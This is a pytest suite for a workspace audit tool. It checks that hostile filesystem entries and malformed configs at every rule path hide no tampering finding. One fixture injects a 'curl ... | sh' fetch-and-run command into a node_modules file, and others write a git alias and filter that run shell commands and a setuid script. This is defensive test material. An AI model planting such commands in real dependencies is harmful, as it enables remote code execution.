"""One rule's failure hides no other finding (issue 36): every rule of the catalogue is given hostile
entries at its paths (links to files, to directories, out of the tree, dangling, in a loop; FIFOs;
directories where files belong; files over the read limit; deeply nested JSON, TOML, YAML and XML;
invalid UTF-8), beside changes the audit is known to report; those are always reported, no rule
fails, and nothing raises, hangs or waits on a FIFO.

The audit runs through the same code as after a session (exit_audit.capture, then audit_mount),
on real files; the cases are a fixed table (hostile kind x every rule's paths), a few seconds in all.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from dejima.adapters.start_contents import READ_LIMIT
from dejima.core.audit import Finding, rank
from dejima.core.audit.catalogue import CODED_RULES, GIT_INNER, PATH_RULES
from dejima.core.audit.isolation import ceiling, judged
from dejima.core.audit.manifest_watch import Watch
from dejima.core.audit.model import View
from dejima.core.audit.rules import audit
from dejima.core.snapshot import Snapshot, SnapshotEntry
from dejima.orchestration.exit_audit import Mount, audit_mount, capture

MiB = 1 << 20


def write(root: Path, path: str, data: str | bytes) -> None:
    target = root / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data.encode() if isinstance(data, str) else data)


def summary(found: list[Finding]) -> list[tuple[str, str, str]]:
    return [(f.rule, f.severity, f.path) for f in found]


def failures(found: list[Finding]) -> list[str]:
    """The rules that failed (X00 with the rule's id as its key), with where and why."""
    return [f"{f.key} at {f.path!r}: {f.evidence}" for f in found if f.rule == "X00"]


# --- (a) issue 36: a linked tasks.json beside a tampered dependency tree ------------------------------

def tampered_tree_and_linked(root: Path, link: str) -> list[Finding]:
    write(root, "node_modules/left-pad/index.js", "module.exports = (s, n) => s.padStart(n);\n")
    write(root, "node_modules/left-pad/package.json", '{"name": "left-pad", "version": "1.3.0"}\n')
    (root / ".vscode").mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    state = capture(Mount("workspace", root))
    with (root / "node_modules/left-pad/index.js").open("a") as file:
        file.write("require('child_process').exec('curl -s https://x.example | sh');\n")
    (root / link).symlink_to("../node_modules/left-pad/index.js")
    found, _ = audit_mount(state)
    return found


@pytest.mark.parametrize(("link", "rule", "severity"), [(".vscode/tasks.json", "I01", "critical"),
                                                        (".vscode/launch.json", "I05", "medium")])
def test_a_linked_vscode_config_and_a_tampered_tree_are_both_reported(tmp_path: Path, link: str, rule: str,
                                                                      severity: str) -> None:
    """Main raised ValueError on the link (the worst of the rule's severities held "context"), and the
    workspace's only finding was an X00 that named neither."""
    found = summary(tampered_tree_and_linked(tmp_path, link))
    # The link: host tools read through it, so it is as bad as the worst the rule gives.
    assert (rule, severity, link) in found
    assert ("B07", "high", "node_modules") in found  # modified in place, not installed anew
    assert [f for f in found if f[0] == "X00"] == []


def test_a_config_the_audit_cannot_parse_is_reported_at_the_worst_its_rule_gives(tmp_path: Path) -> None:
    """Found by the table: VS Code runs this folderOpen task (its parser has no depth limit), and
    the audit, which refuses nesting past 64 levels, reported the file at I01's file severity
    (medium). What it cannot read may be any of the rule's keys."""
    root = tmp_path / "repo"
    (root / ".vscode").mkdir(parents=True)
    state = capture(Mount("workspace", root))
    write(root, ".vscode/tasks.json", '{"version": "2.0.0", "tasks": [{"label": "x", "command": "make", '
          '"runOptions": {"runOn": "folderOpen"}}], "pad": ' + "[" * 70 + "]" * 70 + "}")
    found, _ = audit_mount(state)
    assert summary(found) == [("I01", "critical", ".vscode/tasks.json")]
    assert "cannot be read or parsed as json" in found[0].evidence


def test_a_rule_that_fails_on_one_path_is_a_finding_there_and_hides_nothing(tmp_path: Path) -> None:
    """A rule that raises (here: the bytes of one file cannot be read, an I/O error the rules do not
    expect) is X00 at that path, naming the rule, at the worst severity the rule gives; every other
    finding of the mount stands."""
    root = tmp_path / "repo"
    write(root, "README", "x\n")
    state = capture(Mount("workspace", root))
    write(root, ".vscode/tasks.json", '{"tasks": [{"label": "x", "command": "id"}]}')
    write(root, ".npmrc", "registry=https://registry.example/\n")
    (root / "README").chmod(0o755)

    def contents(side: str, path: str) -> bytes | None:
        if path == ".vscode/tasks.json":
            raise OSError(5, "Input/output error", path)
        return state.kept.get(path) if side == "before" else (root / path).read_bytes()

    after = capture(Mount("workspace", root)).ready()
    found = audit(state.ready(), after, contents)
    failed = [f for f in found if f.rule == "X00"]
    assert [(f.key, f.severity, f.path) for f in failed] == [("I01", "critical", ".vscode/tasks.json")]
    assert "OSError" in failed[0].evidence and "I01" in failed[0].evidence
    assert ("B02", "critical", ".npmrc") in summary(found)
    assert ("F05", "low", "README") in summary(found)


def test_a_failure_is_reported_at_the_worst_severity_its_rule_gives() -> None:
    assert ceiling("I01") == "critical"  # tasks.*.runoptions.runon
    assert ceiling("F03/F04") == "critical"
    assert ceiling("X05/X06") == "high"
    assert ceiling("a stage the catalogue does not name") == "critical"
    for rule in PATH_RULES:
        assert rank(ceiling(rule.id)) >= rank(rule.worst), rule.id


def test_judged_keeps_what_a_rule_found_and_names_what_failed() -> None:
    view = View(Snapshot(), Snapshot(), [], lambda side, path: None)

    def fails() -> list[Finding]:
        raise RecursionError("maximum recursion depth exceeded")

    [failed] = judged(view, "B09", "conftest.py", fails)
    assert (failed.rule, failed.key, failed.severity, failed.path) == ("X00", "B09", "high", "conftest.py")
    assert judged(view, "B09", "conftest.py", lambda: []) == []


def test_an_acknowledged_failure_reopens_when_its_file_changes() -> None:
    """The failure's fingerprint binds the path's entries: an ack does not cover the next content."""
    def view_of(digest: str) -> View:
        entry = SnapshotEntry("conftest.py", "file", 0o644, 0, 0, 1, 1, 1, 1, 1, sha256=digest)
        return View(Snapshot(), {"conftest.py": entry}, [], lambda side, path: None)

    def fails() -> list[Finding]:
        raise ValueError("x")

    first, again, changed = (judged(view_of(d), "B09", "conftest.py", fails)[0] for d in ("a" * 64, "a" * 64, "b" * 64))
    assert first.fingerprint == again.fingerprint != changed.fingerprint


# --- (b) every rule's paths, hostile ------------------------------------------------------------------

def concrete(glob: str) -> str:
    """One path a catalogue glob matches ("**/" at the root, "*" and "?" an "x", a set its first)."""
    path = glob.replace("**/", "").replace("/**", "/x")
    path = re.sub(r"\{([^,}]*)[^}]*\}", r"\1", path)
    return path.replace("*", "x").replace("?", "x")


# The paths of the rules that are code (their catalogue rows have none), by rule.
CODED_PATHS = {
    "G01": [".git/hooks/pre-commit"], "G02": [".git/modules/sub/hooks/post-checkout"],
    "G08": [".gitattributes", ".git/info/attributes"], "G15": [".git/commondir", ".git/gitdir"],
    "G24": ["nested/.git"], "G25": [".GIT"], "G26": ["into-git"], "E02": [".env.local", "loaded.sh"],
    "E10": ["json.py"], "I12": ["notes.txt"], "I13": [".dir-locals.el"],
    "B07": ["node_modules/pkg/package.json", "node_modules/pkg/index.js", "node_modules/x.js", "vendor/lib.rb",
            "target/debug/app"],
    "B10": [".venv/pyvenv.cfg", ".venv/bin/activate", ".venv/lib/python3.12/site-packages/x.pth",
            ".venv/lib/python3.12/site-packages/d-1.dist-info/RECORD"],
    "B11": ["src/__pycache__/m.cpython-312.pyc"],
    "F01": ["link-out"], "F02": ["hard"], "F03": ["setuid"], "F04": ["special"], "F05": ["script.sh"],
    "F06": ["shared.txt"], "F07": ["big.bin"], "F08": ["-dash", "CON", "x\u202etxt.sh"], "F09": ["code.py"],
    "F10": ["old.txt"], "M01": [], "X00": [], "X01": [".unlisted/x"], "X02": ["toolrc"],
    "X03": [".git/other"], "X04": [".git/config", ".git/config.worktree", ".gitmodules", ".lfsconfig"],
    "X05": ["package-lock.json", "Cargo.lock", "uv.lock", "poetry.lock", "go.sum", "npm-shrinkwrap.json"],
    "X06": ["package-lock.json"], "X07": ["watched/file"],
    "G20": [".gitignore", ".git/info/exclude", ".git/index"],
}
HOME_PATHS = sorted({concrete(glob) for rule in PATH_RULES if "home" in rule.mounts for glob in rule.paths} |
                    {".cargo/registry/src/index/crate-1.0/src/lib.rs", ".cache/uv/archive-v0/abc/x.py",
                     ".npm/_cacache/content-v2/sha512/ab/cd/" + "e" * 124, ".cache/go-build/ab/" + "c" * 64 + "-d",
                     ".venv/pyvenv.cfg", ".venv/lib/python3.12/site-packages/x.pth"})
CACHE_PATHS = ["registry/entry/file", "registry/other/deep/file"]


def workspace_paths() -> list[str]:
    paths = {concrete(glob) for rule in PATH_RULES if "workspace" in rule.mounts for glob in rule.paths}
    paths |= {concrete(".git/" + pattern) for pattern, _, _, _ in GIT_INNER}
    paths |= {path for coded in CODED_PATHS.values() for path in coded}
    return sorted(paths)


def test_every_rule_of_the_catalogue_has_hostile_paths() -> None:
    assert set(CODED_PATHS) == set(CODED_RULES), "a rule in code without paths here"


# Text in each format the rules parse, nested far deeper than any parser's recursion limit.
DEPTH = 5_000  # Python's parsers recurse per level, and stop at about 1,000
HOSTILE_CONTENT: dict[str, bytes] = {
    "deep-json": b'{"tasks": ' + b"[" * DEPTH + b"]" * DEPTH + b"}",
    "deep-toml": b"a = " + b"[" * DEPTH + b"]" * DEPTH + b"\n",
    "deep-yaml": b"a: " + b"[" * DEPTH + b"]" * DEPTH + b"\n",
    "deep-yaml-compact": b"- " * DEPTH + b"x\n",  # nested sequences on one line
    "deep-yaml-block": b"".join(b" " * level + b"- \n" for level in range(400)),  # one level a line
    "deep-xml": b"<a>" * DEPTH + b"</a>" * DEPTH,
    "invalid-utf8": b'{"scripts": {"postinstall": "\xff\xfe"}, "\xc3\x28": 1}\n[core]\n\thooksPath = \xed\xa0\x80\n'
                    b"key=\x80\x81\nregistry=\xf0\x28\x8c\x28\n# vim: set makeprg=\xff:\n",
    "nul-bytes": b"\0" * 4096 + b"[x]\n\0=\0\n",
    # Valid syntax, values of the wrong shape for what each reader expects there.
    "odd-shapes": json.dumps({
        "tasks": 5, "configurations": {"x": None}, "scripts": ["postinstall"], "name": {"x": 1}, "version": None,
        "lockfileVersion": 3, "packages": {"node_modules/a": {"version": [1], "integrity": ["x"], "link": True,
                                                              "resolved": 5}, "": 7, "node_modules/b": "x"},
        "dependencies": [], "compilerOptions": {"plugins": "x"}, "hooks": "x", "env": [1, 2],
        "mcpServers": {"x": None}, "a" * 300: "b", "big": int("9" * 4000)}).encode(),
    "big-numbers": b"a = " + b"9" * 5000 + b"\nb: " + b"9" * 5000 + b'\n{"c": ' + b"9" * 5000 + b"}\n",
    "git-config": b'[core]\n\thooksPath\n\tfsmonitor = "unterminated\n[include]\n\tpath = /etc/x\n\tpath = '
                  b'../../../../x\n[remote "o\n\turl = x\n[alias]\n\tx = !sh -c id\n[filter "a"]\n\tclean = id\n'
                  b"[\n\\\n[core]] x\n",
    "git-index": b"DIRC\0\0\0\x02\xff\xff\xff\xff" + b"\xff" * 100,
}
# Over what the start keeps (4 MiB), and over what the rules read (sparse): at one path per format.
HUGE: dict[str, bytes] = {"huge": (b"a = " + b"x" * 1019 + b"\n") * (5 * MiB // 1024),
                          "huge-line": b"vim: " + b"/a" * (5 * MiB // 2)}


def _link(target: str) -> Callable[[Path, str], None]:
    """A link to ``target``: relative to the mount's root ("" is the link itself: a loop), or with
    "/" to the directory beside the mount (outside it, and the test's), or absolute."""
    def make(root: Path, path: str) -> None:
        link = root / path
        if target == "/":
            (root.parent / "outside").mkdir(exist_ok=True)
            link.symlink_to(root.parent / "outside")
        else:
            link.symlink_to(target if target.startswith("/") else os.path.relpath(root / (target or path),
                                                                                  link.parent))
    return make


def _fifo(root: Path, path: str) -> None:
    os.mkfifo(root / path)


def _directory(root: Path, path: str) -> None:
    (root / path).mkdir()
    (root / path / "x").write_text("{}\n")


def _hard_link(root: Path, path: str) -> None:
    """Every path one file: a hard link with all the others (and with a file outside the mount)."""
    first = root.parent / "hard-linked"
    if not first.exists():
        first.write_text('{"a": 1}\n')
    os.link(first, root / path)


def _setuid(root: Path, path: str) -> None:
    (root / path).write_text("#!/bin/sh\nid\n")
    (root / path).chmod(0o6777)


def _odd_siblings(root: Path, path: str) -> None:
    """The file, and beside it names no tool expects: not UTF-8, a newline, an option, a Windows
    device, a bidi override, the file's own name in other cases."""
    (root / path).write_text("{}\n")
    name = path.rpartition("/")[2]
    for sibling in (os.fsdecode(b"\xff\xfe-" + name.encode()), f"{name}\nx", f"-{name}", "CON", f"x\u202e{name}",
                    name.upper(), name.swapcase() + "\u200b"):
        try:
            (root / path).with_name(sibling).write_text("x\n")
        except OSError:
            continue


def _over_read_limit(root: Path, path: str) -> None:
    with (root / path).open("wb") as file:
        file.truncate(READ_LIMIT + 1)  # sparse: the rules get no bytes, and must say so


def _content(data: bytes) -> Callable[[Path, str], None]:
    def make(root: Path, path: str) -> None:
        (root / path).write_bytes(data)
    return make


HOSTILE: dict[str, Callable[[Path, str], None]] = {
    "link-to-file": _link("/etc/hostname"), "link-in-tree": _link("node_modules/pkg/index.js"),
    "link-to-dir": _link("src"), "link-to-root": _link("."), "link-outside": _link("/"),
    "dangling": _link("nowhere/at/all"), "loop": _link(""), "fifo": _fifo, "directory": _directory,
    "hard-link": _hard_link, "setuid": _setuid, "odd-siblings": _odd_siblings,
    **{name: _content(data) for name, data in HOSTILE_CONTENT.items()},
}
BIG: dict[str, Callable[[Path, str], None]] = {
    **{name: _content(data) for name, data in HUGE.items()}, "over-read-limit": _over_read_limit}
# One path per format the rules parse, and of the files they read otherwise (a sparse file is still
# hashed whole: at every path, the walk would take too long).
BIG_PATHS = [".vscode/tasks.json", "pyproject.toml", ".npmrc", "compose.yml", "pom.xml", ".git/config",
                   ".tool-versions", "requirements.txt", ".env", ".nvmrc", "package-lock.json", "Cargo.lock",
                   ".git/index", "notes.txt"]


def place(root: Path, paths: list[str], make: Callable[[Path, str], None]) -> list[str]:
    """``make`` at each path that can hold it (not below another path made a file); the paths made."""
    made, inside = [], root.resolve()
    for path in paths:
        try:
            (root / path).parent.mkdir(parents=True, exist_ok=True)
            if (root / path).is_symlink() or (root / path).exists() or \
                    not (root / path).parent.resolve().is_relative_to(inside):  # below a link made here
                continue
            make(root, path)
        except (NotADirectoryError, FileExistsError):
            continue
        made.append(path)
    return made


def benign(root: Path, path: str) -> None:
    suffix = path.rpartition(".")[2]
    text = {"json": "{}\n", "toml": "", "yml": "a: 1\n", "yaml": "a: 1\n", "xml": "<project/>\n"}.get(suffix, "x\n")
    (root / path).write_text(text)


def planted_workspace(root: Path) -> None:
    """What the audit must report whatever else happens: a package changed in place, an .npmrc, a
    hook (created before the start, with a tree and a git directory)."""
    write(root, "planted/node_modules/left-pad/index.js", "module.exports = 1;\n")
    write(root, "planted/node_modules/left-pad/package.json", '{"name": "left-pad", "version": "1.3.0"}\n')
    write(root, ".envrc", "dotenv_if_exists .env.local\nsource_env loaded.sh\n")
    write(root, ".venv/lib/python3.12/site-packages/d-1.dist-info/RECORD", "d.py,sha256=AAAA,1\n")
    subprocess.run(["git", "init", "-q", str(root)], check=True)


def plant(root: Path) -> None:
    with (root / "planted/node_modules/left-pad/index.js").open("a") as file:
        file.write("require('child_process').exec('id');\n")
    write(root, "planted/.npmrc", "registry=https://registry.example/\n")


PLANTED = [("B07", "high", "planted/node_modules"), ("B02", "critical", "planted/.npmrc")]


def hostile_audit(root: Path, kind: str, replaced: bool) -> list[Finding]:
    planted_workspace(root)
    paths = BIG_PATHS if kind in BIG else workspace_paths()
    if replaced:  # a regular file at the start, replaced by the hostile entry
        paths = place(root, paths, benign)
    # A manifest's [audit] watch (X07) over a directory of its own and over paths the catalogue knows.
    watch = (Watch("watched/", "test.toml"), Watch(".vscode/", "test.toml"), Watch("package.json", "test.toml"))
    state = capture(Mount("workspace", root, watch))
    if replaced:
        for path in paths:
            (root / path).unlink()
    made = place(root, paths, BIG[kind] if kind in BIG else HOSTILE[kind])
    assert len(made) >= len(paths) * 0.9, sorted(set(paths) - set(made))
    plant(root)
    found, _ = audit_mount(state)
    return found


@pytest.mark.timeout(120)
@pytest.mark.parametrize("replaced", [False, True], ids=["added", "replaced"])
@pytest.mark.parametrize("kind", [*HOSTILE, *BIG])
def test_hostile_entries_at_every_rule_path_hide_no_finding(tmp_path: Path, kind: str, replaced: bool) -> None:
    found = hostile_audit(tmp_path / "repo", kind, replaced)
    assert failures(found) == []
    assert set(PLANTED) <= set(summary(found)), summary(found)


@pytest.mark.timeout(120)
@pytest.mark.parametrize("kind", [*HOSTILE])
def test_hostile_entries_in_a_home_and_a_cache_hide_no_finding(tmp_path: Path, kind: str) -> None:
    for mount, paths, planted, expected in (
            ("home", HOME_PATHS, ".cargo/registry/src/index/planted-1.0/src/lib.rs",
             ("M01", "medium", ".cargo/registry/src/index/planted-1.0")),
            ("cache", CACHE_PATHS, "planted/entry/file", ("M01", "medium", "planted/entry"))):
        root = tmp_path / mount
        write(root, planted, "fn main() {}\n")
        state = capture(Mount(mount, root))
        made = place(root, paths, HOSTILE[kind])
        assert made, paths
        write(root, planted, "fn main() { std::process::Command::new(\"id\"); }\n")
        found, _ = audit_mount(state)
        assert failures(found) == [], mount
        assert expected in summary(found), (mount, summary(found))
